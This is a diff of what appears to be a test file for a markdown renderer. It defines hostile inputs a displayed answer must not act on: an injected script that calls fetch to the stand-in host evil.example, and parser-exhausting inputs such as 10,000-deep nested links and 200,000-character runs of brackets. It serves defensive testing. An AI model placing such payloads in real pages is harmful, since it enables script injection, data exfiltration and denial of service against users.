@@ -1,4 +1,7 @@
-/** What an answer must never do to the page that shows it: by name, the texts that try. Each ends with the word "finis". */
+/**
+ * What an answer must never do to the page that shows it: by name, the texts that try. Each ends
+ * with the word "finis".
+ */
 
 const SCRIPT = 'window.caught=1;fetch("https://evil.example/s")';
 const SITE = 'https://evil.example';
@@ -46,7 +49,7 @@ const ENDLESS: Record<string, string> = {
   'lists 10,000 deep': '- '.repeat(10_000),
   'emphasis 10,000 deep': '**a *b '.repeat(5_000),
   'links 10,000 deep': `${'['.repeat(10_000)}a${'](mailto:a)'.repeat(10_000)}`,
-  'a megabyte of [': repeat('[', 1_000_000),
+  'nothing but [': repeat('[', 200_000),
   'links that never end': repeat('[a](', 200_000),
   'thousands of emphases': repeat('*a', 200_000),
   'a line of |': repeat('|', 200_000),
